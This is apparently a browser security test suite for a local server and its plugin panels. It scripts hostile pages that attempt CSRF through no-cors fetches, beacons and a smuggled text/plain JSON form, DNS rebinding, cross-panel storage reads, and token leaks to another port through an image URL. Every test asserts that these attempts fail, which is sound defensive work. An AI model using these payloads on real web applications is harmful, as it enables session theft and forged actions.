// Hostile pages in a real browser, against the server and against the panel of somebody else: what arrives, and what they get.

import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { createServer } from "node:http";
import { tmpdir } from "node:os";
import { join } from "node:path";
import type { Browser, BrowserContext, Page } from "playwright-core";
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from "vitest";
import type { PluginSource } from "@pictor/host";
import { listen } from "@pictor/host/testing";
import { startTestServer } from "../../../server/testing/start-server.js";
import { chromiumPath, openBrowser, reboundName } from "../browser.test.support.js";

const panelPage = (title: string): string => `<!doctype html><title>${title}</title><script type="module">
  import { openPanel } from "/pictor/client.js";
  window.client = await openPanel();
  document.title = "ready";
</script>`;

/** Writes the plugin of a panel with one page. */
function panel(id: string): PluginSource {
  const path = join(folder, `panel-${id}`);
  mkdirSync(path);
  const panels = [{ id, title: id, description: id, scopes: ["read"] }];
  const common = { manifestVersion: 1, kind: "panel", version: "1.0.0", apiVersion: "^1.0.0" };
  const manifest = { ...common, id: `panel-${id}`, title: id, description: id, contributes: { panels } };
  writeFileSync(join(path, "plugin.json"), JSON.stringify(manifest));
  writeFileSync(join(path, "index.html"), panelPage(id));
  writeFileSync(join(path, "worker.js"), "addEventListener('fetch', () => undefined);");
  return { kind: "directory", path };
}

/** A page of another port of this machine. */
const elsewhere = await listen(
  createServer((_request, response) => {
    response.setHeader("Content-Type", "text/html").end("<!doctype html><title>Elsewhere</title>");
  }),
);
const folder = mkdtempSync(join(tmpdir(), "pictor-hostile-"));
const test = await startTestServer({
  sources: [panel("mine"), panel("hostile")],
  panels: () => Promise.resolve(["mine", "hostile"].map((id) => ({ id, scopes: ["read"] as const }))),
});
afterAll(async () => {
  await elsewhere.close();
  await test.close();
});

const urlOf = (id: string): string => test.server.panels.urlOf(id) ?? "";
/** Where the API is served: its own port, and that of the panel. */
const places = (): readonly string[] => [test.server.url, urlOf("mine")];
const jobCount = async (): Promise<number> =>
  ((await test.call("GET", "/v1/jobs")).json()["jobs"] as readonly unknown[]).length;
/** The subprotocols of a handshake with a ticket that is valid. */
const freshTicket = async (): Promise<readonly string[]> =>
  (await test.call("POST", "/v1/tickets", { body: {} })).json()["subprotocols"] as readonly string[];

const job = JSON.stringify({ workflow: "txt2img", params: {} });

describe.skipIf(chromiumPath === undefined)("in Chromium", () => {
  let browser: Browser;
  let context: BrowserContext;
  beforeAll(async () => {
    browser = await openBrowser();
  });
  beforeEach(async () => {
    context = await browser.newContext();
  });
  afterEach(() => context.close());

  async function open(url: string): Promise<Page> {
    const page = await context.newPage();
    await page.goto(url);
    return page;
  }
  /** The policy of a panel forbids what `waitForFunction` does in the page. */
  const isReady = (page: Page) => expect.poll(() => page.title(), { timeout: 20_000 }).toBe("ready");
  async function openPanel(id: string): Promise<Page> {
    const page = await open(test.server.panels.open(id));
    await isReady(page);
    return page;
  }
  /** Statuses of the requests and handshakes that `run` sends, as soon as `count` of them have reached the server. */
  async function statusesOf(count: number, run: () => Promise<unknown>): Promise<readonly number[]> {
    const before = test.log.length;
    await run();
    // Requests of one page arrive in any order, and the page does not wait for some of them.
    await expect.poll(() => test.log.length - before).toBe(count);
    return [...new Set(test.log.slice(before).map(({ status }) => status))];
  }
  const fetchIn = (page: Page, url: string, init: object): Promise<unknown> =>
    page.evaluate(
      `fetch(${JSON.stringify(url)}, ${JSON.stringify(init)}).then((reply) => reply.type + " " + reply.status, () => "kept by the browser")`,
    );
  const socketIn = async (page: Page, url: string): Promise<unknown> => {
    const address = `${url.replace("http", "ws")}/v1/events/socket`;
    const protocols = JSON.stringify(await freshTicket());
    return page.evaluate(
      `new Promise((resolve) => {
        try {
          const socket = new WebSocket(${JSON.stringify(address)}, ${protocols});
          socket.onopen = () => resolve("open");
          socket.onerror = () => resolve("refused");
        } catch { resolve("kept by the browser"); }
      })`,
    );
  };

  describe("a page of another port of this machine", () => {
    const types = ["text/plain", "application/x-www-form-urlencoded"];
    it("submits no job with any request that needs no preflight", async () => {
      const page = await open(elsewhere.url);
      const before = await jobCount();
      for (const url of places()) {
        // One for each type, a beacon, and a form.
        const statuses = await statusesOf(types.length + 2, async () => {
          for (const type of types)
            await fetchIn(page, `${url}/v1/jobs`, {
              method: "POST",
              mode: "no-cors",
              body: job,
              headers: { "Content-Type": type },
            });
          await page.evaluate(`navigator.sendBeacon(${JSON.stringify(`${url}/v1/jobs`)}, ${job})`);
          await page.evaluate(
            `new Promise((resolve) => {
              const target = Object.assign(document.createElement("iframe"), { name: "target", onload: resolve });
              document.body.append(target);
              const form = Object.assign(document.createElement("form"), { method: "POST", enctype: "text/plain", target: "target" });
              form.action = ${JSON.stringify(`${url}/v1/jobs`)};
              form.append(Object.assign(document.createElement("input"), { name: '{"workflow":"txt2img","x":"', value: '"}' }));
              document.body.append(form);
              form.submit();
            })`,
          );
        });
        expect(statuses).toEqual([403]);
      }
      expect(await jobCount()).toBe(before);
    });

    it("reads nothing, and opens no socket, with a token and a ticket that are valid", async () => {
      const page = await open(elsewhere.url);
      for (const url of places()) {
        const headers = { Authorization: `Bearer ${test.server.token}` };
        expect(await statusesOf(1, () => fetchIn(page, `${url}/v1/jobs`, { headers }))).toEqual([403]);
        expect(await fetchIn(page, `${url}/v1/jobs`, { headers })).toBe("kept by the browser");
        expect(await fetchIn(page, `${url}/healthz`, { mode: "no-cors" })).toBe("kept by the browser");
        // The ticket, and the handshake.
        expect(await statusesOf(2, () => socketIn(page, url))).toEqual([200, 403]);
        expect(await socketIn(page, url)).toBe("refused");
      }
    });
  });

  it("a sandboxed frame, whose origin is null, submits nothing and opens no socket", async () => {
    const page = await open(elsewhere.url);
    const before = await jobCount();
    for (const url of places()) {
      await page.evaluate(
        `new Promise((resolve) => {
          const frame = Object.assign(document.createElement("iframe"), { sandbox: "allow-scripts allow-forms", onload: resolve });
          frame.srcdoc = "<!doctype html>";
          document.body.append(frame);
        })`,
      );
      const frame = page.frames().at(-1) as unknown as Page;
      expect(await frame.evaluate("origin")).toBe("null");
      const headers = { Authorization: `Bearer ${test.server.token}` };
      const send = () =>
        fetchIn(frame, `${url}/v1/jobs`, { method: "POST", mode: "no-cors", body: job, headers });
      expect(await statusesOf(1, send)).toEqual([403]);
      expect(await socketIn(frame, url)).toBe("refused");
    }
    expect(await jobCount()).toBe(before);
  });

  it("a page whose name is rebound to this machine gets nothing, although the server has its origin", async () => {
    for (const place of places()) {
      const { port } = new URL(place);
      const url = `http://${reboundName}:${port}`;
      const page = await context.newPage();
      expect((await page.goto(url))?.status()).toBe(421);
      // The page came from the attacker's server, before its name led here.
      await page.route(`${url}/page`, (route) =>
        route.fulfill({ contentType: "text/html", body: "<!doctype html>" }),
      );
      await page.goto(`${url}/page`);
      expect(await page.evaluate("origin")).toBe(url);
      const headers = { Authorization: `Bearer ${test.server.token}`, "Content-Type": "application/json" };
      const before = await jobCount();
      expect(await fetchIn(page, `${url}/v1/jobs`, { method: "POST", body: job, headers })).toBe("basic 421");
      expect(await fetchIn(page, `${url}/v1`, { headers })).toBe("basic 421");
      expect(await fetchIn(page, `${url}/pictor/client.js`, {})).toMatch(/basic 4/);
      expect(await socketIn(page, url)).toBe("refused");
      expect(await jobCount()).toBe(before);
    }
  });

  describe("a hostile panel", () => {
    it("reads nothing of another panel that it opens or frames, and its messages change nothing", async () => {
      const hostile = await openPanel("hostile");
      const url = test.server.panels.open("mine");
      const opening = context.waitForEvent("page");
      await hostile.evaluate(`window.other = window.open(${JSON.stringify(url)}); 0`);
      const mine = await opening;
      await isReady(mine);
      expect(await mine.evaluate("opener")).toBeNull();
      const read = await hostile.evaluate(
        `(() => { try { return String(other.sessionStorage.length); } catch (error) { return error.name; } })()`,
      );
      // The policy of its opener has cut it off (Cross-Origin-Opener-Policy): it looks closed, or it cannot be read.
      expect(["SecurityError", "TypeError"]).toContain(read);
      await mine.evaluate(
        `window.messages = []; addEventListener("message", ({ data }) => messages.push(data)); 0`,
      );
      await hostile.evaluate(`other.postMessage("steal", "*"); 0`);
      await hostile.evaluate(`new BroadcastChannel("x").postMessage("steal"); 0`);
      expect(await mine.evaluate("messages")).toEqual([]);

      await hostile.evaluate(
        `document.body.append(Object.assign(document.createElement("iframe"), { src: ${JSON.stringify(`${urlOf("mine")}/`)} })); 0`,
      );
      await expect
        .poll(() => hostile.frames().map((frame) => frame.url()))
        .toEqual([`${urlOf("hostile")}/`, expect.stringMatching(/^(?:chrome-error:|about:blank)/)]);
    });

    it("finds no session of another in any storage, and cannot open one", async () => {
      const mine = await openPanel("mine");
      const token = await mine.evaluate<string>('sessionStorage.getItem("pictor.token")');
      const hostile = await openPanel("hostile");
      const stores = await hostile.evaluate(
        `Promise.all([indexedDB.databases(), caches.keys()]).then((found) =>
          JSON.stringify([{ ...localStorage }, { ...sessionStorage }, document.cookie, found]))`,
      );
      expect(stores).not.toContain(token);
      const opened = await hostile.evaluate(
        'client.calls.openPanel({ params: { id: "mine" }, body: {} }).then(() => "open", ({ code }) => code)',
      );
      expect(opened).toBe("API_SCOPE_MISSING");
      const tokens = await hostile.evaluate(
        'client.calls.listTokens().then(() => "listed", ({ code }) => code)',
      );
      expect(tokens).toBe("API_SCOPE_MISSING");
      const submitted = await hostile.evaluate(
        'client.calls.submitJob({ body: { workflow: "txt2img" } }).then(() => "taken", ({ code }) => code)',
      );
      expect(submitted).toBe("API_SCOPE_MISSING");
      expect(await hostile.evaluate("client.calls.listJobs().then(({ jobs }) => Array.isArray(jobs))")).toBe(
        true,
      );
    });

    it("cannot run a script that its page adds to itself, which has no hash in the policy", async () => {
      const hostile = await openPanel("hostile");
      const added = await hostile.evaluate(
        `(() => { const script = document.createElement("script"); script.textContent = "window.added = true"; document.body.append(script); return window.added === true; })()`,
      );
      expect(added).toBe(false);
    });

    it("leaves no service worker behind for the panel that has its port later, and has no device of the machine", async () => {
      const hostile = await openPanel("hostile");
      const installed = await hostile.evaluate<string>(
        'navigator.serviceWorker.register("/worker.js").then(() => "installed", ({ name }) => name)',
      );
      expect(installed).toBe("TypeError");
      expect(await hostile.evaluate('document.featurePolicy.allowsFeature("camera")')).toBe(false);
    });

    it("reaches no other port, with its own token or without", async () => {
      const hostile = await openPanel("hostile");
      const token = await hostile.evaluate<string>('sessionStorage.getItem("pictor.token")');
      const headers = { Authorization: `Bearer ${token}` };
      for (const url of [...places(), elsewhere.url])
        expect(await fetchIn(hostile, `${url}/v1`, { headers })).toBe("kept by the browser");
      const shown = await hostile.evaluate(
        `new Promise((resolve) => {
          const image = Object.assign(new Image(), { onload: () => resolve(true), onerror: () => resolve(false) });
          image.src = ${JSON.stringify(`${elsewhere.url}?token=`)} + sessionStorage.getItem("pictor.token");
        })`,
      );
      expect(shown).toBe(false);
      expect(await socketIn(hostile, urlOf("mine"))).not.toBe("open");
      // What the policy of its page keeps, the other port refuses, too.
      const outside = { ...headers, Origin: urlOf("hostile") };
      for (const url of places()) {
        const reply = await fetch(`${url}/v1`, { headers: outside });
        expect([reply.status, ((await reply.json()) as { readonly code: string }).code]).toEqual([
          403,
          "API_ORIGIN_REFUSED",
        ]);
      }
    });
  });

  it("the history of the browser and the addresses that it asks for have no token, and no code that works", async () => {
    const profile = mkdtempSync(join(tmpdir(), "pictor-profile-"));
    const own = await browser
      .browserType()
      .launchPersistentContext(profile, { executablePath: chromiumPath ?? "", args: ["--no-sandbox"] });
    const page = await own.newPage();
    const asked: string[] = [];
    page.on("request", (request) => asked.push(request.url(), request.headers()["referer"] ?? ""));
    const url = test.server.panels.open("mine");
    const code = new URL(url).hash.slice("#code=".length);
    await page.goto(url);
    await isReady(page);
    const token = await page.evaluate<string>('sessionStorage.getItem("pictor.token")');
    expect(page.url()).toBe(`${urlOf("mine")}/`);
    await page.goto(elsewhere.url);
    await page.goBack();
    await isReady(page);
    expect(page.url()).toBe(`${urlOf("mine")}/`);
    await own.close();
    const history = readFileSync(join(profile, "Default/History")).toString("latin1");
    rmSync(profile, { recursive: true, force: true });
    expect(history).toContain(elsewhere.url);
    expect(history).not.toContain(token);
    // The client of a fragment is the browser alone: requests and referrers have none.
    expect(asked.slice(1).join("\n")).not.toContain(code);
    expect(asked.join("\n")).not.toContain(token);
    const used = await test.call("POST", "/v1/session", { body: { code }, token: null });
    expect(used.status).toBe(401);
  });
});
